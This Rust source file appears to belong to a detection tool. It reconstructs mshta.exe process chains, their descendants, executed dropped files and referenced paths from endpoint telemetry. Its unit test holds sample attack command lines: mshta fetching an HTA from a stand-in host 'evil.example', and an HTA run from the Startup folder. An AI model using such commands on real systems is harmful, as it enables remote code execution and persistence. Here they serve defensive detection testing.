//! Chain discovery over the store: which processes are mshta roots (seen or
//! inferred), their descendants, the activity attributed to them, and the
//! links by path. Computed on demand from the store's indexes, so a chain
//! is a function of the retained events, not of the order they came in.

use crate::event::{Activity, Actor};
use crate::names::{basename, host_key, EntityId};
use crate::store::{HostId, ProcId, Store};
use crate::time::Millis;
use std::collections::{BTreeMap, BTreeSet, VecDeque};

/// Ancestor walks stop after this many steps (bad data can hold cycles;
/// real trees are shallow).
const MAX_ANCESTOR_STEPS: usize = 64;

/// How many ancestors a chain reports as its lineage.
pub(crate) const LINEAGE_DEPTH: usize = 8;

/// A root whose start event was never seen, inferred from its children's
/// parent fields or from activity that names it.
#[derive(Debug, Clone)]
pub(crate) struct Inferred {
    pub host: HostId,
    pub pid: Option<u32>,
    pub guid: Option<EntityId>,
    pub image: Box<str>,
    pub command_line: Option<Box<str>>,
    /// First time anything of it was seen (UTC).
    pub seen: Millis,
    pub children: Vec<ProcId>,
    pub acts: Vec<u64>,
}

#[derive(Debug, Clone)]
pub(crate) enum Root {
    Seen(ProcId),
    Inferred(Inferred),
}

/// How a member joined the chain.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Via {
    /// A descendant of the root.
    Descendant,
    /// Runs a file a member wrote.
    ExecutedFile,
}

#[derive(Debug, Clone)]
pub(crate) struct Member {
    pub proc: ProcId,
    pub depth: u32,
    pub via: Via,
}

/// A file written (by any process) before the root started, that the
/// root's command line names.
#[derive(Debug, Clone)]
pub(crate) struct FileLink {
    pub index: u64,
    pub time: Millis,
    pub path: Box<str>,
    pub writer: Actor,
}

#[derive(Debug, Clone)]
pub(crate) struct ChainParts {
    pub id: String,
    pub host: HostId,
    pub root: Root,
    /// UTC start (or first sighting) of the root.
    pub seen: Millis,
    pub members: Vec<Member>,
    /// Activity of the root and members, by input index.
    pub acts: Vec<u64>,
    pub dropped_file: Option<FileLink>,
    /// Ancestors of the root, nearest first.
    pub lineage: Vec<ProcId>,
}

impl ChainParts {
    /// Processes this chain holds in the store.
    pub(crate) fn procs(&self) -> Vec<ProcId> {
        let mut v: Vec<ProcId> = self.members.iter().map(|m| m.proc).collect();
        if let Root::Seen(r) = &self.root {
            v.push(*r);
        }
        v
    }
}

/// Finds every chain in the store, skipping ids that are `closed`.
/// With `hosts`, only chains on those hosts (chains never span hosts).
pub(crate) fn discover(
    store: &Store,
    window: Millis,
    closed: impl Fn(&str) -> bool,
    hosts: Option<&BTreeSet<HostId>>,
) -> Vec<ChainParts> {
    let wanted = |h: HostId| hosts.is_none_or(|set| set.contains(&h));
    let mut roots: Vec<(Root, Millis, String, HostId)> = Vec::new();
    for id in store.mshta_processes() {
        if !wanted(store.proc(id).host) || has_mshta_ancestor(store, id) {
            continue;
        }
        let p = store.proc(id);
        let seen = store.start_utc(p);
        let ident = match &p.guid {
            Some(g) => g.as_str().to_string(),
            None => format!("{}@{}", p.pid.unwrap_or(0), seen),
        };
        roots.push((Root::Seen(id), seen, chain_id(store.host_key(p.host), &ident), p.host));
    }
    for inf in inferred_roots(store).into_iter().filter(|inf| wanted(inf.host)) {
        let ident = match &inf.guid {
            Some(g) => g.as_str().to_string(),
            None => format!("{}@{}", inf.pid.unwrap_or(0), inf.seen),
        };
        let (seen, host) = (inf.seen, inf.host);
        roots.push((Root::Inferred(inf), seen, chain_id(store.host_key(host), &ident), host));
    }
    roots.sort_by(|a, b| (a.1, &a.2).cmp(&(b.1, &b.2)));

    let mut owned: BTreeSet<ProcId> = BTreeSet::new();
    let mut out = Vec::new();
    for (root, seen, id, host) in roots {
        if closed(&id) {
            continue;
        }
        let mut chain = ChainParts {
            id,
            host,
            root,
            seen,
            members: Vec::new(),
            acts: Vec::new(),
            dropped_file: None,
            lineage: Vec::new(),
        };
        build(store, &mut chain, window, &mut owned);
        out.push(chain);
    }
    out
}

fn build(store: &Store, chain: &mut ChainParts, window: Millis, owned: &mut BTreeSet<ProcId>) {
    let mut queue: VecDeque<(ProcId, u32)> = VecDeque::new();
    match &chain.root {
        Root::Seen(r) => {
            owned.insert(*r);
            queue.push_back((*r, 0));
            chain.lineage = lineage(store, *r);
        }
        Root::Inferred(inf) => {
            for &c in &inf.children {
                if owned.insert(c) {
                    chain.members.push(Member { proc: c, depth: 1, via: Via::Descendant });
                    queue.push_back((c, 1));
                }
            }
            chain.acts.extend(inf.acts.iter().copied());
        }
    }
    descend(store, chain, &mut queue, owned, Via::Descendant);

    // Activity of the root and every member.
    let mut holders: Vec<ProcId> = chain.members.iter().map(|m| m.proc).collect();
    if let Root::Seen(r) = &chain.root {
        holders.push(*r);
    }
    let mut acts: BTreeSet<u64> = chain.acts.iter().copied().collect();
    collect_acts(store, &holders, &mut acts);

    // A file a member wrote, later run as a process: that process (and its
    // descendants) joins the chain.
    let written: Vec<(Box<str>, Millis, u32)> = acts
        .iter()
        .filter_map(|&i| store.activity(i))
        .filter_map(|a| match &a.what {
            Activity::FileCreate { path } => {
                let depth = store
                    .actor_of(a)
                    .and_then(|p| chain.members.iter().find(|m| m.proc == p).map(|m| m.depth))
                    .unwrap_or(0);
                Some((path.to_ascii_lowercase().into_boxed_str(), store.utc(a.host, a.clock, a.time), depth))
            }
            _ => None,
        })
        .collect();
    if !written.is_empty() {
        let mut queue = VecDeque::new();
        for pid in store.host_processes(chain.host) {
            if owned.contains(&pid) {
                continue;
            }
            let p = store.proc(pid);
            let start = store.start_utc(p);
            if let Some((_, _, depth)) =
                written.iter().find(|(path, t, _)| start >= *t && p.image.eq_ignore_ascii_case(path))
            {
                owned.insert(pid);
                chain.members.push(Member { proc: pid, depth: depth + 1, via: Via::ExecutedFile });
                queue.push_back((pid, depth + 1));
            }
        }
        let before = chain.members.len();
        descend(store, chain, &mut queue, owned, Via::ExecutedFile);
        let new: Vec<ProcId> = chain.members[before..].iter().map(|m| m.proc).collect();
        let linked: Vec<ProcId> = chain.members.iter().filter(|m| m.via == Via::ExecutedFile).map(|m| m.proc).collect();
        collect_acts(store, &linked, &mut acts);
        collect_acts(store, &new, &mut acts);
    }
    chain.acts = acts.into_iter().collect();

    // A file written before the root started that its command line names.
    let cmd = match &chain.root {
        Root::Seen(r) => store.proc(*r).command_line.clone(),
        Root::Inferred(inf) => inf.command_line.clone(),
    };
    if let Some(cmd) = cmd {
        chain.dropped_file = dropped_file(store, chain.host, &cmd, chain.seen, window);
    }
    // Ties broken by content, not input index (arrival order).
    chain.members.sort_by_cached_key(|m| {
        let p = store.proc(m.proc);
        (store.start_utc(p), m.depth, p.pid, p.image.clone(), p.guid.clone())
    });
}

fn descend(
    store: &Store,
    chain: &mut ChainParts,
    queue: &mut VecDeque<(ProcId, u32)>,
    owned: &mut BTreeSet<ProcId>,
    via: Via,
) {
    while let Some((p, depth)) = queue.pop_front() {
        for c in store.children_of(p) {
            if owned.insert(c) {
                chain.members.push(Member { proc: c, depth: depth + 1, via });
                queue.push_back((c, depth + 1));
            }
        }
    }
}

fn collect_acts(store: &Store, holders: &[ProcId], acts: &mut BTreeSet<u64>) {
    for &h in holders {
        let p = store.proc(h);
        for i in store.activity_candidates(p.host, p.guid.as_ref(), p.pid) {
            if let Some(a) = store.activity(i) {
                if store.actor_of(a) == Some(h) {
                    acts.insert(i);
                }
            }
        }
    }
}

/// Roots whose start was never seen: grouped by host and pid (or GUID when
/// there is no pid), from children naming an mshta parent we do not have,
/// and from activity whose actor image is mshta but unknown.
fn inferred_roots(store: &Store) -> Vec<Inferred> {
    let mut groups: BTreeMap<(HostId, String), Inferred> = BTreeMap::new();
    let key = |host: HostId, a: &Actor| -> Option<(HostId, String)> {
        match (a.process.pid, &a.process.guid) {
            (Some(pid), _) => Some((host, format!("pid:{pid}"))),
            (None, Some(g)) => Some((host, format!("guid:{}", g.as_str()))),
            (None, None) => None,
        }
    };
    for c in store.mshta_children() {
        if store.parent_of(c).is_some() {
            continue;
        }
        let p = store.proc(c);
        let Some(k) = key(p.host, &p.parent) else { continue };
        let start = store.start_utc(p);
        let g = groups.entry(k).or_insert_with(|| Inferred {
            host: p.host,
            pid: p.parent.process.pid,
            guid: p.parent.process.guid.clone(),
            image: p.parent.image.clone().unwrap_or_else(|| "mshta.exe".into()),
            command_line: None,
            seen: start,
            children: Vec::new(),
            acts: Vec::new(),
        });
        g.seen = g.seen.min(start);
        g.guid = g.guid.clone().or_else(|| p.parent.process.guid.clone());
        if g.command_line.is_none() {
            g.command_line = p.parent_command_line.clone();
        }
        g.children.push(c);
    }
    for i in store.mshta_activity() {
        let Some(a) = store.activity(i) else { continue };
        if store.actor_of(a).is_some() {
            continue;
        }
        let Some(k) = key(a.host, &a.actor) else { continue };
        let t = store.utc(a.host, a.clock, a.time);
        let g = groups.entry(k).or_insert_with(|| Inferred {
            host: a.host,
            pid: a.actor.process.pid,
            guid: a.actor.process.guid.clone(),
            image: a.actor.image.clone().unwrap_or_else(|| "mshta.exe".into()),
            command_line: None,
            seen: t,
            children: Vec::new(),
            acts: Vec::new(),
        });
        g.seen = g.seen.min(t);
        g.acts.push(i);
    }
    groups.into_values().collect()
}

/// Whether an ancestor of `id` is an mshta. When bad data makes `id` part
/// of a parent cycle, only an mshta of the cycle that started earlier
/// counts, so the earliest mshta of a cycle is its root.
fn has_mshta_ancestor(store: &Store, id: ProcId) -> bool {
    let me = store.proc(id);
    let my_key = (store.start_utc(me), me.first_event());
    let mut ancestors = Vec::new();
    let mut cur = store.parent_of(id);
    let mut cycle = false;
    while let Some(a) = cur {
        if a == id {
            cycle = true;
            break;
        }
        if ancestors.len() == MAX_ANCESTOR_STEPS || ancestors.contains(&a) {
            break;
        }
        ancestors.push(a);
        cur = store.parent_of(a);
    }
    ancestors.iter().any(|&a| {
        let p = store.proc(a);
        p.is_mshta() && (!cycle || (store.start_utc(p), p.first_event()) < my_key)
    })
}

fn lineage(store: &Store, id: ProcId) -> Vec<ProcId> {
    let mut out = Vec::new();
    let mut cur = store.parent_of(id);
    while let Some(a) = cur {
        if a == id || out.contains(&a) || out.len() == LINEAGE_DEPTH {
            break;
        }
        out.push(a);
        cur = store.parent_of(a);
    }
    out
}

/// Paths a command line names: quoted arguments, and unquoted tokens that
/// look like a file (`name.ext`).
pub(crate) fn referenced_paths(cmd: &str) -> Vec<&str> {
    let mut out = Vec::new();
    let mut rest = cmd;
    while let Some(q) = rest.find('"') {
        let after = &rest[q + 1..];
        let Some(end) = after.find('"') else { break };
        out.push(&after[..end]);
        rest = &after[end + 1..];
    }
    for tok in cmd.split(|c: char| c.is_whitespace() || c == '"') {
        if tok.len() > 4 && tok.contains('.') && !tok.contains("://") {
            out.push(tok);
        }
    }
    out.retain(|p| !p.is_empty() && basename(p).contains('.'));
    out
}

fn dropped_file(store: &Store, host: HostId, cmd: &str, seen: Millis, window: Millis) -> Option<FileLink> {
    let mut best: Option<FileLink> = None;
    for path in referenced_paths(cmd) {
        let name = basename(path);
        let has_dir = path.contains('\\') || path.contains('/');
        for f in store.files_named(host, name) {
            let t = store.utc(host, f.clock, f.time);
            let same = if has_dir { f.path.eq_ignore_ascii_case(path.trim()) } else { true };
            if same && t <= seen + crate::store::SLACK_MS && seen - t <= window {
                let better = best.as_ref().is_none_or(|b| (t, f.index) > (b.time, b.index));
                if better {
                    best = Some(FileLink { index: f.index, time: t, path: f.path.clone(), writer: f.actor.clone() });
                }
            }
        }
    }
    best
}

/// Stable chain id: FNV-1a of host and root identity.
fn chain_id(host: &str, ident: &str) -> String {
    let h = crate::hash::fnv1a(format!("{}|{}", host_key(host), ident).as_bytes());
    format!("mc-{h:016x}")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paths_named_by_command_lines() {
        let got = referenced_paths(
            r#""C:\windows\system32\mshta.exe" "C:\Users\a\Start Menu\Programs\Startup\T1218.005.hta""#,
        );
        assert!(got.contains(&r"C:\Users\a\Start Menu\Programs\Startup\T1218.005.hta"));
        let got = referenced_paths(r"mshta.exe C:\Users\Public\x.hta");
        assert!(got.contains(&r"C:\Users\Public\x.hta"));
        assert!(referenced_paths("mshta https://evil.example/a.hta").iter().all(|p| !p.contains("://")));
    }
}
